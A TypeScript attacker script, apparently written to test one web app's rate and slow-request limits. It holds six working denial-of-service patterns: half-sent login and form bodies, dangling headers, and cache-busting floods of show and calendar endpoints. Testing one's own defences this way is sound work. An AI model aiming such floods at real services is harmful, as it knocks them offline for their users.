import { connect, type Socket } from 'node:net';

/*
 * A hostile client in a process of its own: `node attacker.ts URL ATTACK`, until it is stopped. It
 * begins a hundred requests a second, too few for limits of another kind (connections, bandwidth).
 */
const [url = '', attack = ''] = process.argv.slice(2);
const { hostname, port, host } = new URL(url);
const EVERY_MS = 10;
const OPEN = 140;

const begin: Record<string, (n: number) => string> = {
  'half a JSON body': () => half('/api/v1/login/', 'application/json', '{"username":'),
  'half a form': () =>
    half('/api/v1/mailing-list/unsubscribe/none/', 'multipart/form-data; boundary=x', '--x\r\n'),
  'half a head': () => `POST /api/v1/login/ HTTP/1.1\r\nhost: ${host}\r\nx-slow: `,
  'lists of new days': (n) => whole(`/api/v1/shows/?start_date=${nthDay(n)}`, host),
  'calendars of new words': (n) => whole(`/calendar.ics?search=${n}`, host),
  'calendars of new hosts': (n) => whole('/calendar.ics', `h${n}.example`),
};

const sockets: Socket[] = [];
let count = 0;
setInterval(() => {
  const text = begin[attack]?.(count);
  if (text === undefined) throw new Error(`There is no attack called ${attack}.`);
  count += 1;
  const socket = connect(Number(port), hostname, () => socket.write(text));
  socket.on('error', () => undefined).resume();
  sockets.push(socket);
  if (sockets.length > OPEN) sockets.shift()?.destroy();
}, EVERY_MS);
console.log('attacking');

function half(path: string, type: string, start: string): string {
  const headers = [`host: ${host}`, `content-type: ${type}`, 'content-length: 5000'];
  return [`POST ${path} HTTP/1.1`, ...headers, '', start].join('\r\n');
}

function whole(path: string, name: string): string {
  return `GET ${path} HTTP/1.1\r\nhost: ${name}\r\nconnection: close\r\n\r\n`;
}

function nthDay(n: number): string {
  return new Date(Date.UTC(2000, 0, 1 + n)).toISOString().slice(0, 10);
}
